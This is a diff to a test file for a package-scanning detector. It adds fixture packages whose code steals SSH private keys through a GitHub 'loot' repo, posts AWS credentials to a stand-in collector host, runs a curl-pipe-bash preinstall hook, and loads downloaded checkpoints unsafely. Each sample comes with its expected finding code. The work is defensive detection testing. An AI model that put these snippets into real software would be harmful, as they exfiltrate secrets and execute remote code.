@@ -916,6 +916,55 @@ def npm_env_file_on_use() -> Archive:
     return npm({}, {"index.js": code})
 
 
+# --- session 13: secrets gathered by helpers, scripts started by npm, loaders of downloads ---
+
+
+def ssh_keys_glob_helper() -> Archive:
+    return sd({"demo/__init__.py": lines(
+        "import base64, glob, os, requests",
+        "",
+        "def _collect():",
+        "    out = {}",
+        "    for p in glob.glob(os.path.expanduser('~/.ssh/id_*')):",
+        "        out[p] = base64.b64encode(open(p, 'rb').read()).decode()",
+        "    return out",
+        "",
+        "requests.put('https://api.github.com/repos/example/loot/contents/k.json',",
+        "             json={'content': base64.b64encode(str(_collect()).encode()).decode()})",
+    )})  # fmt: skip
+
+
+def keys_appended_helper() -> Archive:
+    return sd({"demo/__init__.py": "from demo import telemetry\n", "demo/telemetry.py": lines(
+        "import os, requests",
+        "",
+        "def _gather():",
+        "    found = []",
+        "    found.append(os.environ.get('AWS_SECRET_ACCESS_KEY'))",
+        "    found.append(open(os.path.expanduser('~/.aws/credentials')).read())",
+        "    return found",
+        "",
+        "requests.post('https://collect.example.net/t', json={'t': _gather()})",
+    )})  # fmt: skip
+
+
+def npm_shell_script() -> Archive:
+    return npm(
+        {"preinstall": "bash ./scripts/pre.sh"},
+        {"scripts/pre.sh": "#!/bin/sh\ncurl -fsSL https://203.0.113.7/i.sh | bash\n"},
+    )
+
+
+def checkpoint_download() -> Archive:
+    return sd({"demo/__init__.py": "", "demo/hub.py": lines(
+        "import io, requests, torch",
+        "",
+        "def pretrained(name):",
+        "    blob = requests.get('https://models.example.com/' + name).content",
+        "    return torch.load(io.BytesIO(blob), weights_only=False)",
+    )})  # fmt: skip
+
+
 #: sample, path, line, code, severity of the behaviour it must keep. The comment says what the
 #: packages layer reported before session 12 where it differed.
 CAUGHT: list[tuple[Callable[[], Archive], str, int, str, Severity]] = [
@@ -981,6 +1030,11 @@ CAUGHT: list[tuple[Callable[[], Archive], str, int, str, Severity]] = [
     (npm_ssh_key_request, "package/k.js", 3, "PKG015", C),  # was medium (PKG014)
     (npm_env_file, "package/k.js", 3, "PKG015", C),  # was high for the raw address only
     (npm_env_file_on_use, "package/index.js", 4, "PKG015", C),  # was nothing
+    # session 13
+    (ssh_keys_glob_helper, "demo-1.0/demo/__init__.py", 9, "PKG002", C),  # was PKG007 high only
+    (keys_appended_helper, "demo-1.0/demo/telemetry.py", 9, "PKG002", C),  # was PKG007 high only
+    (npm_shell_script, "package/scripts/pre.sh", 2, "PKG001", C),  # was medium (PKG014)
+    (checkpoint_download, "demo-1.0/demo/hub.py", 5, "PKG003", H),  # was nothing
 ]
 
 
@@ -1268,3 +1322,24 @@ def test_one_variable_of_a_dotenv_file_and_a_printed_dotenv_file_are_not_a_dump(
     show = "const fs = require('fs');\nconsole.log(fs.readFileSync('.env', 'utf8'));\n"
     found = scan(npm({}, {"index.js": client, "cli.js": show}))
     assert not [f for f in found if f.code == "PKG015" and f.severity >= Severity.HIGH]
+
+
+def test_public_keys_and_build_logs_gathered_and_sent_are_not_secrets() -> None:
+    lib = lines(
+        "import glob, os, requests",
+        "",
+        "",
+        "def register():",
+        "    keys = [open(p).read() for p in glob.glob(os.path.expanduser('~/.ssh/*.pub'))]",
+        "    one = open(os.path.expanduser('~/.ssh/id_ed25519.pub')).read()",
+        "    requests.post('https://api.example.com/v1/keys', json={'keys': keys + [one]})",
+        "",
+        "",
+        "def upload_logs():",
+        "    out = {}",
+        "    for p in glob.glob('logs/*.log'):",
+        "        out[p] = open(p).read()",
+        "    requests.post('https://ci.example.com/logs', json=out)",
+    )
+    found = scan(sd({"demo/__init__.py": lib}))
+    assert not [f for f in found if f.code == "PKG002"]
